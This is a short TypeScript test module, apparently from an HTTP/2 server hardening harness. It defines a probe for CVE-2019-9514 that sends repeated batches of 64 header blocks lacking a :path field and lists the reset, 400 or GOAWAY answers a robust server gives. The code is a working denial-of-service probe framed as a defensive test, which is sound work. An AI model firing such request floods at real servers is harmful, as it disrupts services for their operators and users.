// Requests that are malformed, each of which has to be reset.

import * as h2 from '../../harness/frames/h2-frames.ts'
import type { Attack } from '../attack.ts'
import { attackHttp2, request } from '../wire/http2.ts'

export const attack: Attack = {
  reference: 'CVE-2019-9514',
  does: 'sends heads without a path',
  who: ['known', 'unknown'],
  answers: ['400', 'RST_STREAM PROTOCOL_ERROR', 'GOAWAY PROTOCOL_ERROR'],
  must: ['RST_STREAM PROTOCOL_ERROR', '400', 'GOAWAY ENHANCE_YOUR_CALM', 'closed'],
  run: (target, signal) =>
    attackHttp2(target, signal, {}, (connection) => {
      const get = request(h2.headerBlock([':method', 'GET', ':scheme', 'https', ':authority', target.host]))
      return { next: () => connection.batch(64, get) }
    }),
}
